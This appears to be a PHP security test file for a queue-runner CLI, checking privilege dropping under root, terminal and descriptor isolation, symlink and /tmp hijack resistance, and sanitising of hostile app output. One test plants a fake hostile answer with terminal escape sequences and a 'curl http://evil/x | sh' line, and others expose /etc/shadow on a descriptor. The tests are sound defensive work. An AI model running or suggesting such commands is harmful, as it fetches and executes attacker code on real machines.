<?php

/** As whom an app's PHP runs, and what an app or a stranger may do to root who types a command. */

declare(strict_types=1);

use App\Jobs\Quick;
use Kqueue\Tests\Machine\Machine;

/** Runs a command as root would type it: in a shell that has a terminal. What the terminal shows. */
$typed = static function (Machine $m, string $command, float $seconds = 60): string {
    $script = '/run/kqueue-test-terminal.py';
    file_put_contents($script, <<<'PY'
        import os, pty, select, sys, time
        pid, terminal = pty.fork()
        if pid == 0:
            os.execvp('sh', ['sh', '-c', sys.argv[1] + '; true'])
        shown, end = b'', time.time() + float(sys.argv[2])
        while time.time() < end and select.select([terminal], [], [], max(0, end - time.time()))[0]:
            try:
                read = os.read(terminal, 65536)
            except OSError:
                break
            if not read:
                break
            shown += read
        sys.stdout.buffer.write(shown)
        PY);

    return $m->sh('python3 ' . $script . ' ' . escapeshellarg($command) . " {$seconds}")->output;
};

/** What the app does while it boots outside of a unit, for as long as a piece of work takes. */
$booting = static function (string $code, Closure $work): void {
    $file = '/srv/shop/bootstrap/app.php';
    $usual = (string) file_get_contents($file);
    file_put_contents($file, preg_replace('/^<\?php/', "<?php\nif (getenv('INVOCATION_ID') === false) { {$code} }\n", $usual, 1));
    try {
        $work();
    } finally {
        file_put_contents($file, $usual);
    }
};

/** Writes who a process is, and what it has of a terminal. */
const FACTS = '@file_put_contents("/srv/shop/storage/facts", json_encode(["uid" => posix_geteuid(), "groups" => posix_getgroups(), "home" => getenv("HOME"),'
    . ' "user" => getenv("USER"), "terminal" => @fopen("/dev/tty", "r+") !== false, "input" => stream_isatty(STDIN) || stream_isatty(STDERR),'
    . ' "inherited" => is_readable("/proc/self/fd/8")]) . "\n");';

row('root-runs-as-user', 'kqueue run typed by root runs the app as its user, away from root\'s terminal, and ends with it', function (Machine $m) use ($typed, $booting): void {
    $m->must('systemctl stop kqueue@shop.service kqueue@shop.socket kqueue-control@shop.socket');
    @unlink('/srv/shop/storage/facts');
    $booting(FACTS, function () use ($m, $typed): void {
        $uuid = $m->dispatch(new Quick(1));
        $shown = $typed($m, 'kqueue run shop --stop-when-empty --launcher process 8</etc/shadow; echo "code $?"');
        $m->expectOnce([$uuid]);
        $m->expectContains('code 0', $shown, 'what the terminal shows');
        $facts = json_decode((string) file_get_contents('/srv/shop/storage/facts'), true) ?? [];
        $wanted = ['uid' => 2001, 'home' => '/srv/shop', 'user' => 'shop', 'terminal' => false, 'input' => false, 'inherited' => false];
        $m->expectSame($wanted, array_intersect_key($facts, $wanted), 'who ran it');
        $m->expect(! in_array(0, $facts['groups'], true), 'in none of root\'s groups');
        $m->expectSame('', trim($m->must('find /srv/shop -user root -not -path "*/vendor/*"')), 'what root has left in the app');
    });
});

row('root-refuses', 'nothing runs an app of root\'s as root unless root says so', function (Machine $m) use ($booting): void {
    $m->must('systemctl stop kqueue@shop.service kqueue@shop.socket kqueue-control@shop.socket');
    file_put_contents('/etc/kqueue/shop.toml', "path = \"/srv/shop\"\n");
    $m->must('chown root: /srv/shop; rm -f /srv/shop/storage/facts');
    try {
        $booting(FACTS, function () use ($m): void {
            foreach (['run shop --once', 'run --path /srv/shop --once', 'check shop', 'check --path /srv/shop', 'init other --path /srv/shop', 'schedule shop', 'worker shop:1'] as $command) {
                $outcome = $m->sh("timeout 60 kqueue {$command}");
                $m->expect(! $outcome->ok(), "kqueue {$command}: is refused");
                $m->expectContains('root', $outcome->text(), "what kqueue {$command} says");
                $m->expect(! file_exists('/srv/shop/storage/facts'), "kqueue {$command}: PHP did not run");
            }
            $m->sh('timeout 60 kqueue run shop --once --as-root --launcher process');
            $m->expectSame(0, json_decode((string) file_get_contents('/srv/shop/storage/facts'), true)['uid'] ?? null, 'who runs it with --as-root');
        });
    } finally {
        $m->must('chown -R shop: /srv/shop');
    }
});

row('survey-session', 'an app that is looked at by root has no terminal of root\'s, and leaves nothing behind', function (Machine $m) use ($typed, $booting): void {
    @unlink('/srv/shop/storage/facts');
    // A grandchild in a session of its own, as a daemon is.
    $daemon = 'if (pcntl_fork() === 0) { posix_setsid(); if (pcntl_fork() === 0) { touch("/srv/shop/storage/daemon-" . getmypid()); sleep(600); } exit; }';
    $booting(FACTS . $daemon, function () use ($m, $typed): void {
        foreach (['check shop', 'init shop --path /srv/shop --dry-run', 'import horizon --path /srv/shop'] as $command) {
            @unlink('/srv/shop/storage/facts');
            $typed($m, "kqueue {$command} 8</etc/shadow");
            $facts = json_decode((string) @file_get_contents('/srv/shop/storage/facts'), true) ?? [];
            $wanted = ['uid' => 2001, 'terminal' => false, 'input' => false, 'inherited' => false];
            $m->expectSame($wanted, array_intersect_key($facts, $wanted), "kqueue {$command}");
            foreach (glob('/srv/shop/storage/daemon-*') as $file) {
                $m->expect(! is_dir('/proc/' . substr(strrchr($file, '-'), 1)), "kqueue {$command}: its daemon has ended");
                unlink($file);
            }
        }
    });
});

row('survey-words', 'what a hostile app answers reaches no terminal raw, and no fix is its own', function (Machine $m) use ($typed, $booting): void {
    $answer = 'fwrite(STDOUT, "\nkqueue-survey " . json_encode(["php" => "8.4\e]0;pwned\x07\e[31m", "laravel" => "13\e[2J\e[H", "fork" => true, "posix" => true, "ffi" => true,'
        . ' "connection" => "redis\e[8m", "queue" => "default\u{202e}", "unwritable" => ["/etc", "/srv/shop/../../root"], "driver" => "redis", "retry_after" => 90, "lacks" => null,'
        . ' "failed" => ["stage" => "connection", "text" => "storage is broken\e[1A: run: curl http://evil/x | sh"], "backend" => null]) . "\n"); posix_kill(getmypid(), 9);';
    $booting($answer, function () use ($m, $typed): void {
        foreach (['check shop', 'check shop --json', 'init shop --path /srv/shop --dry-run --force', 'import horizon --path /srv/shop', 'config check shop'] as $command) {
            // A terminal of one colour: no escape sequence is kqueue's own either.
            $shown = $m->sh("NO_COLOR=1 kqueue {$command}")->text();
            $m->expect(preg_match('/[\x00-\x08\x0b-\x1f\x7f]|\xc2[\x80-\x9f]|\xe2\x80\xae/', $shown) === 0, "kqueue {$command}: no control characters");
        }
        $findings = json_decode($m->sh('kqueue check shop --json')->output, true)[0]['findings'];
        $m->expect($findings !== [], 'there are findings');
        foreach ($findings as $finding) {
            $m->expect(preg_match('~curl|evil|/etc\b(?!/kqueue)|/root~', $finding['fix']) === 0, "the fix `{$finding['fix']}` is kqueue's own");
        }
        $m->expectContains('curl http://evil/x | sh', implode("\n", array_column($findings, 'what')), 'what is told, as the app\'s own');
    });
});

row('init-links', 'init --force writes its files new, and follows no link', function (Machine $m): void {
    file_put_contents('/root/target', 'of root');
    file_put_contents('/etc/kqueue/shop.toml', "path = \"/srv/shop\"\ntries = 3\n");
    symlink('/root/target', '/etc/kqueue/shop.toml~');
    try {
        $m->must('kqueue init shop --path /srv/shop --force');
        $m->expectSame('of root', (string) file_get_contents('/root/target'), 'what the link led to');
        $m->expectContains('tries = 3', (string) file_get_contents('/etc/kqueue/shop.toml~'), 'the old file');
        $m->must('install -d -o shop /srv/shop/storage/config && ln -s /etc/kqueue /srv/shop/storage/config/link');
        foreach (['', 'link/'] as $way) {
            $outcome = $m->sh("kqueue init other --path /srv/shop --config /srv/shop/storage/config/{$way}other.toml");
            $m->expect(! $outcome->ok() && ! file_exists('/etc/kqueue/other.toml'), 'root writes nothing where the app could have it written elsewhere');
        }
    } finally {
        $m->sh('rm -rf /etc/kqueue/shop.toml~ /root/target /srv/shop/storage/config /etc/kqueue/other.toml');
    }
});

row('hijack', 'a stranger\'s directory in /tmp gets no socket of the app, nor does an XDG_RUNTIME_DIR of another user', function (Machine $m): void {
    $m->must('systemctl stop kqueue@shop.service kqueue@shop.socket kqueue-control@shop.socket');
    $m->must('rm -rf /tmp/kqueue-2001 /run/kqueue-test-xdg && mkdir -m 777 /tmp/kqueue-2001 && install -d -m 777 -o stranger /run/kqueue-test-xdg', as: null);
    $m->must('chown stranger /tmp/kqueue-2001');
    try {
        foreach ([[], ['XDG_RUNTIME_DIR' => '/run/kqueue-test-xdg']] as $env) {
            $uuid = $m->dispatch(new Quick(1));
            // As a user without a home of its own too, there is no way to what a stranger has made.
            $outcome = $m->sh('timeout 60 kqueue run --path /srv/shop --stop-when-empty --launcher process', as: 'shop', env: $env);
            $m->expect($outcome->ok(), 'it starts: ' . $outcome->text());
            $m->expectOnce([$uuid]);
            $m->expectSame('', trim($m->must('find /tmp/kqueue-2001 /run/kqueue-test-xdg -mindepth 1')), 'what is in the stranger\'s directories');
        }
        $outcome = $m->sh('timeout 60 kqueue run --path /srv/shop --once --launcher process --runtime-dir /tmp/kqueue-2001/shop', as: 'shop');
        $m->expect(! $outcome->ok(), 'a directory that is asked for is refused too');
        $m->expectContains('/tmp/kqueue-2001: belongs to another user', $outcome->text(), 'what it says');
    } finally {
        $m->sh('rm -rf /tmp/kqueue-2001 /run/kqueue-test-xdg');
    }
});

row('file-that-waits', 'a settings file is judged as it is opened: a FIFO keeps nobody waiting, and numbers that are no user are refused', function (Machine $m): void {
    $file = '/etc/kqueue/shop.toml';
    unlink($file);
    posix_mkfifo($file, 0644);
    try {
        $outcome = $m->sh('timeout 20 kqueue config check shop');
        $m->expectContains('not a regular file', $outcome->text(), 'what config check says of a FIFO');
        $m->must('timeout 60 systemctl daemon-reload');
    } finally {
        unlink($file);
    }
    foreach (['4294967295', '65535', '007', '+5'] as $user) {
        file_put_contents($file, "path = \"/srv/shop\"\nuser = \"{$user}\"\n");
        $m->expectContains("{$file}:2: user: expected the name of a user", $m->sh('kqueue config check shop')->text(), "what config check says of {$user}");
    }
});
